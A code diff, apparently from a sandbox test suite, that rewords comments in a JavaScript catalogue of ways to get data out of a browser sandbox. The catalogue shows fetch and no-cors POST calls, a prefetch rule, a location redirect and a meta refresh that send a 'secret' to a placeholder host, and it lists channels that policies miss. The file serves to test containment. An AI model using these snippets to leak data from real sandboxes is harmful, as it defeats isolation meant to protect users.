@@ -1,9 +1,9 @@
 /**
- * Every way out of the sandbox that is known. To add a way: a line, with TO for the address of a server that counts what
- * arrives, which is another one or the page's own, and UDP for its port.
+ * Every known way out of the sandbox. To add a way: a line, with TO for the address of a server that counts requests
+ * (another server, or the page's own), and UDP for its port.
  */
 
-/** Statements; what they throw counts as refused. */
+/** Statements; an exception counts as blocked. */
 export const ways = {
   fetch: 'await fetch(TO + "/secret")',
   'fetch, no-cors': 'await fetch(TO + "/secret", { mode: "no-cors", method: "POST", body: "secret" })',
@@ -88,10 +88,10 @@ export const ways = {
     textContent: JSON.stringify({ prefetch: [{ urls: [TO + "/secret"] }] }) }))`,
 };
 
-/** Policies say nothing of these. A worker has none of them, and cells have but a worker. */
+/** Policies do not cover these. Workers have none of them, and cells only have a worker. */
 export const beyondPolicies = ['WebRTC', '<link, preconnect>', '<link, dns-prefetch>'];
 
-/** Ways that the frame has and no cell: a cell runs in a worker, without a document. */
+/** Ways of the frame that cells lack: a cell runs in a worker, without a document. */
 export const ofDocuments = {
   'to leave for another place': 'location = TO + "/secret"',
   'a meta refresh': `document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=" + TO + "/secret" }))`,
